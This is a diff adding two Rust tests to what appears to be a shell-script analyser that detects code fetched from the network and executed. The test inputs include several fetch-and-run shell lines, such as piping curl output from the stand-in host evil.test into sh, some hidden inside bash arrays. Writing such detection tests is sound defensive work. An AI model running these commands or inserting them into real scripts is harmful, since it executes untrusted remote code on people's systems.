@@ -285,3 +285,31 @@ proptest::proptest! {
         run(&text);
     }
 }
+
+#[test]
+fn what_joins_a_condition_ends_no_command() {
+    let script = "curl https://evil.test/a > GET\n\
+        if [[ ! $(cat GET | head -1) == 200 || ! $(cat GET | tail -1) == yes ]]; then exit 1; fi\n\
+        if [[ $(curl https://evil.test/b | sh) == 1 ]]; then touch done; fi";
+    let outcome = run(script);
+    let unnamed = outcome.events.iter().filter(|event| &*event.api == "sh:unknown");
+    assert_eq!(unnamed.count(), 0, "{:?}", outcome.events);
+    let piped = outcome.events.iter().filter(|event| {
+        matches!(event.effect, Effect::Shell | Effect::DynamicCode | Effect::Spawn)
+            && sources(event).contains(&Source::Network)
+    });
+    assert!(piped.count() > 0, "{:?}", outcome.events);
+    assert!(outcome.events.iter().any(|event| role(event, Role::Path).contains("done")));
+}
+
+#[test]
+fn the_elements_of_an_array_are_words_and_run_where_they_are_used() {
+    let files = "files=(\n  ./a.proto\n  ./b.proto\n)\nprotoc --out=. ${files[@]}";
+    let outcome = run(files);
+    assert!(outcome.runs.is_empty(), "{:?}", outcome.runs);
+    let protoc = outcome.events.iter().find(|event| &*event.api == "sh:protoc").unwrap();
+    assert!(format!("{protoc:?}").contains("./b.proto"));
+    assert_runs_fetched_code("go=(bash -c 'curl https://evil.test/a | sh'); \"${go[@]}\"");
+    assert_runs_fetched_code("from=(https://evil.test/a); curl ${from[0]} | sh");
+    assert_runs_fetched_code("x=($(curl https://evil.test/a | sh))");
+}
